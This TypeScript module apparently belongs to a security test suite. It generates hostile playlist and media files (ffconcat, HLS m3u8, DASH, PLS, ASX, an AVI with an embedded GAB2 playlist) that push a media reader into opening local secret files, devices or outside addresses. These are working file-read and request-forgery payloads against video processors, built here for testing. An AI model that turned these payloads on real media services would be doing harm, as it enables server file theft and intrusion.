import { type HostileFile, type Lures, textFile } from './hostile-file.ts'

/** Lists that make a film reader open other things: local files, devices, addresses; some under the names of films. */
export function hostilePlaylists({ secretPath, address }: Lures): HostileFile[] {
  const hls = (target: string) => ['#EXTM3U', '#EXT-X-MEDIA-SEQUENCE:0', '#EXTINF:10.0,', target, '#EXT-X-ENDLIST']
  const dash = `<MPD><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>${address}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`
  return [
    textFile('local.ffconcat', ['ffconcat version 1.0', `file '${secretPath}'`]),
    textFile('concat.mp4', ['ffconcat version 1.0', `file '${address}/concat.mp4'`]),
    textFile('local.m3u8', hls(`file://${secretPath}`)),
    textFile('concat.m3u8', hls(`concat:${address}/head|file://${secretPath}`)),
    textFile('hls.avi', hls(`${address}/hls.ts`)),
    textFile('hls.mkv', hls('/dev/zero')),
    textFile('plain.m3u', [`${address}/m3u.mp3`]),
    textFile('stream.sdp', ['v=0', 'o=- 0 0 IN IP4 127.0.0.1', 'c=IN IP4 127.0.0.1', 'm=video 5004 RTP/AVP 96', 'a=rtpmap:96 H264/90000']),
    textFile('stream.mpd', ['<?xml version="1.0"?>', dash]),
    textFile('list.pls', ['[playlist]', `File1=${address}/pls.mp3`, 'NumberOfEntries=1']),
    textFile('redirect.asx', [`<asx version="3.0"><entry><ref href="${address}/asx.wmv"/></entry></asx>`]),
    textFile('reference.mov', [`RTSPtext${address}/rtsp.mov`]),
    { path: 'in-avi.avi', bytes: playlistInAvi(hls(`file://${secretPath}`).join('\n')) },
  ]
}

/** A film whose sound track claims to be something that reads a list: the known way into readers that follow lists. */
function playlistInAvi(list: string): Buffer {
  const body = Buffer.from(`GAB2\0\x02\0\0\0\0\0\0\0\0\0${list}`, 'latin1')
  const head = Buffer.alloc(12)
  head.write('RIFF', 0)
  head.writeUInt32LE(body.length + 12, 4)
  head.write('AVI ', 8)
  const chunk = Buffer.alloc(8)
  chunk.write('00tx', 0)
  chunk.writeUInt32LE(body.length, 4)
  return Buffer.concat([head, chunk, body])
}
